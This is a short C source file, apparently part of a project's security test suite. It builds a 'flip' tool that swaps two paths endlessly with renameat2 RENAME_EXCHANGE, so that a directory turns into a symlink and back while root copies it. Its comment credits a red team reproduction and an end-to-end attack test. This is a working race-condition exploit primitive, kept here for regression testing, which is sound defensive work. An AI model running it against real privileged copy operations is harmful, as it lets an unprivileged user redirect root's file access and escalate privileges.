/* flip A B: swaps the names A and B forever (renameat2 RENAME_EXCHANGE): a user's tool that
   turns a directory into a symlink and back while root copies it. From the red team's repro/
   (issue 20, finding 6); test/e2e/attack-images.bats builds it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
int main(int argc, char **argv) {
  if (argc != 3) return 2;
  for (;;) if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) { perror("renameat2"); return 1; }
}
